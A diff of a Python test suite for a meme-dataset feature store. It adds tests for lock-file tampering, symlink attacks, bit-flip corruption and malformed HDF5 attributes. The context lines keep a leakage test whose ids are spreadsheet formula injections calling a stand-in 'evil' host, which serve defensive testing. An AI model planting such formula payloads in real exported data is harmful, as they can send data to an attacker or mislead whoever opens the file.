@@ -598,15 +598,6 @@ def _renamed_dev(lab: Lab, name: str, rename) -> tuple[Path, list[dict]]:
     return data, rows
 
 
-@case("leakage: id with a line break")
-def leak_newline_id(lab):
-    data, _ = _renamed_dev(lab, "leak_newline", lambda i: f"{i}\nx")
-    run, out = _leakage_report(lab, "leak_newline_out", data)
-    assert_clear(run, 2, r"\nx' (split dev_seen)", "line break")
-    assert not out.exists()
-    return run
-
-
 @case("leakage: ids that start a spreadsheet formula")
 def leak_formula_ids(lab):
     data, rows = _renamed_dev(lab, "leak_formula", lambda i: f"=HYPERLINK(\"http://evil/{i}\")")
@@ -641,6 +632,210 @@ def leak_one_caption(lab):
     assert clean == {"dev_seen": 0, "test_unseen": 0}  # every eval meme has a train copy
     return Run(run.command, run.exit_code, f"one group of {n}, {len(doc['pairs'])} pairs listed "
                f"(not {n * (n - 1) // 2}), no clean eval meme\n")
+
+
+# ---------------------------------------------------------------- issue 13: store integrity and locking
+def _flip(path: Path, offset: int, mask: int = 0xFF) -> None:
+    with open(path, "r+b") as fh:
+        fh.seek(offset)
+        b = fh.read(1)[0]
+        fh.seek(offset)
+        fh.write(bytes([b ^ mask]))
+
+
+def _train(lab: Lab, store: Path, out: Path) -> Run:
+    return lab.cli("train-head", "logreg", "--store", store, "--feature-set", SET, "--out", out)
+
+
+@case("lock file deleted under a writer (#13.1)")
+def lock_deleted(lab):
+    store = _store_copy(lab, "lock_rm")
+    first = FeatureStore.open_or_create(store, lab.dataset)  # a featurize that is still running
+    try:
+        batch = {a: first.read(SET, a, [ROW]) for a, s in first.arrays(SET).items() if s.modality == "image"}
+        os.unlink(str(store) + ".lock")  # rm S.h5.lock
+        second = lab.featurize(lab.base, store, "--overwrite", "--downscale", 32)  # a second writer gets in
+        assert second.exit_code == 0, second.output
+        try:
+            first.write_rows(SET, [ROW], batch, "image")
+            raise AssertionError("the first writer wrote after its lock file was deleted")
+        except MemeprobeError as e:
+            run = Run(f"(writer 1 running) rm s.h5.lock; {second.command}; writer 1 commits", 2, f"error: {e}")
+    finally:
+        first.close()
+    assert_clear(run, 2, str(store), "lock file", "removed or replaced", "without marking this batch done")
+    assert_verifies(lab, store)
+    return run
+
+
+@case("flipped feature byte (#13.3)")
+def flipped_byte(lab):
+    import h5py
+
+    store = _store_copy(lab, "flip")
+    with h5py.File(store, "r") as f:
+        ds = f[f"features/{SET}/{EMBED}"]
+        start = ROW // ds.chunks[0] * ds.chunks[0]
+        offset = ds.id.get_chunk_info_by_coord((start, 0)).byte_offset + (ROW - start) * ds[0].nbytes
+    _flip(store, offset + 3, 0x01)  # one bit of one feature value of one row
+    verify = lab.cli("store", "verify", store)
+    assert verify.exit_code == 1 and f"1 done rows do not match their checksum (e.g. {lab.where()})" in verify.output
+    run = _train(lab, store, store.parent / "m.pt")
+    assert_clear(run, 2, str(store), f"{SET}/{EMBED}", "checksum", lab.where())
+    assert not (store.parent / "m.pt").exists()
+    return run
+
+
+@case("forked child keeps a killed writer's lock (#13.4)")
+def forked_child(lab):
+    store = _store_copy(lab, "fork")
+    code = ("import os, sys, time\nfrom memeprobe.data import load_dataset\nfrom memeprobe.store import FeatureStore\n"
+            f"st = FeatureStore.open_or_create({str(store)!r}, load_dataset({str(lab.base)!r}))\n"
+            "if os.fork() == 0:\n    time.sleep(30)\n    os._exit(0)\nprint('locked', flush=True)\ntime.sleep(60)\n")
+    env = dict(os.environ, PYTHONPATH=os.pathsep.join([str(REPO), os.environ.get("PYTHONPATH", "")]))
+    proc = subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, text=True, env=env,
+                            start_new_session=True)
+    try:
+        assert proc.stdout.readline().strip() == "locked"
+        proc.send_signal(signal.SIGKILL)  # the writer dies; its forked child (a DataLoader worker) lives on
+        proc.wait(timeout=10)
+        run = lab.featurize(lab.base, store)  # resumes at once, not refused naming a dead pid
+    finally:
+        os.killpg(proc.pid, signal.SIGKILL)
+    assert run.exit_code == 0 and "Traceback" not in run.output and "0 rows to do" in run.output, run.output
+    assert_verifies(lab, store)
+    return run
+
+
+@case("symlinked lock file (#13.5)")
+def symlinked_lock(lab):
+    store = _store_copy(lab, "lock_link")
+    victim = store.parent / "victim.txt"
+    victim.write_text("precious\n")
+    Path(str(store) + ".lock").unlink(missing_ok=True)
+    os.symlink(victim, str(store) + ".lock")
+    run = lab.featurize(lab.base, store)
+    assert_clear(run, 2, "symbolic link")
+    assert victim.read_text() == "precious\n"
+    return run
+
+
+@case("failure reasons zero-filled (#13.14)")
+def reasons_zero_filled(lab):
+    import h5py
+
+    data = lab.copy("reasons")
+    lab.image(data).write_bytes(b"not a png")
+    store = lab.root / "reasons.h5"
+    run = lab.featurize(data, store)
+    assert run.exit_code == 3, run.output
+    with h5py.File(store, "r") as f:
+        raw = f[f"features/{SET}/_reason/image"][()]
+    assert raw[ROW].strip(b"\0") and all(r.strip(b"\0") == b"" for i, r in enumerate(raw) if i != ROW)
+    return run
+
+
+@case("symlinked store path (#13.15)")
+def symlinked_store(lab):
+    real = _store_copy(lab, "store_link")
+    link = real.parent / "link.h5"
+    os.symlink(real.name, link)
+    run = lab.featurize(lab.base, link, "--overwrite", "--downscale", 32)  # a structural change
+    assert run.exit_code == 0, run.output
+    assert link.is_symlink() and os.readlink(link) == real.name
+    with FeatureStore.open(real) as st:
+        assert st.provenance(SET)["preprocessing"]["downscale"] == 32
+    return run
+
+
+@case("NaN in a done row, store without checksums (#13.13)")
+def nan_unchecked(lab):
+    import h5py
+
+    store = _store_copy(lab, "nan")
+    with h5py.File(store, "r+") as f:
+        del f[f"features/{SET}/_checksum"]  # written before checksums
+        f[f"features/{SET}/{EMBED}"][ROW, 0] = np.nan
+    verify = lab.cli("store", "verify", store)
+    assert verify.exit_code == 1 and "1 done rows hold NaN/inf" in verify.output, verify.output
+    run = _train(lab, store, store.parent / "m.pt")
+    assert_clear(run, 2, str(store), f"{SET}/{EMBED}", "NaN/inf", lab.where())
+    return run
+
+
+@case("bad JSON in the 'arrays' attribute (#13.13)")
+def bad_arrays_attr(lab):
+    import h5py
+
+    store = _store_copy(lab, "bad_arrays")
+    with h5py.File(store, "r+") as f:
+        f[f"features/{SET}"].attrs["arrays"] = '{"image_embed": '
+    for args in (("store", "info", store), ("store", "verify", store)):
+        assert_clear(lab.cli(*args), 2, str(store), "'arrays' attribute")
+    run = _train(lab, store, store.parent / "m.pt")
+    assert_clear(run, 2, str(store), "'arrays' attribute")
+    return run
+
+
+@case("bad JSON in the 'provenance' attribute (#13.13)")
+def bad_provenance_attr(lab):
+    import h5py
+
+    store = _store_copy(lab, "bad_prov")
+    with h5py.File(store, "r+") as f:
+        f[f"features/{SET}"].attrs["provenance"] = "[1, "
+    assert_clear(lab.cli("store", "info", store), 2, str(store), "'provenance' attribute")
+    verify = lab.cli("store", "verify", store)
+    assert verify.exit_code == 1 and "'provenance' attribute is not a JSON object" in verify.output, verify.output
+    run = _train(lab, store, store.parent / "m.pt")
+    assert_clear(run, 2, str(store), "'provenance' attribute")
+    return run
+
+
+@case("bit flip in an HDF5 object header (#13.13)")
+def header_flip(lab):
+    import h5py
+
+    store = _store_copy(lab, "header")
+    with h5py.File(store, "r") as f:
+        header = h5py.h5o.get_info(f[f"features/{SET}/{EMBED}"].id).addr
+    _flip(store, header)  # the object header's version byte
+    verify = lab.cli("store", "verify", store)
+    assert_clear(verify, 2, str(store), "damaged", "object header")
+    run = _train(lab, store, store.parent / "m.pt")
+    assert_clear(run, 2, str(store), "damaged")
+    return run
+
+
+@case("declared shape differs from the stored one (#13.13)")
+def shape_mismatch(lab):
+    import h5py
+
+    store = _store_copy(lab, "shape")
+    with h5py.File(store, "r+") as f:
+        g = f[f"features/{SET}"]
+        values = g[EMBED][()]
+        del g[EMBED]
+        g.create_dataset(EMBED, data=values[:, :-1])
+    run = _train(lab, store, store.parent / "m.pt")
+    assert_clear(run, 2, str(store), f"array '{EMBED}' is stored as", "but declared")
+    return run
+
+
+@case("NUL byte in a text (#13.13)")
+def nul_text(lab):
+    meme = json.loads((lab.base / "train.jsonl").read_text().splitlines()[2])
+    run, _, f = _bad_annotations(lab, "nul_text", _edit_row(2, text="caf\x00e"))
+    assert_clear(run, 2, str(f), "line 3", meme["id"], "NUL byte")
+    assert "store" not in message(run)
+    return run
+
+
+@case("id with a newline (#13.13)")
+def newline_id(lab):
+    run, _, f = _bad_annotations(lab, "newline_id", _edit_row(2, id="12\n34"))
+    assert_clear(run, 2, str(f), "line 3", "'12\\n34'", "control character")
+    return run
 
 
 # ---------------------------------------------------------------- pytest and script entry points
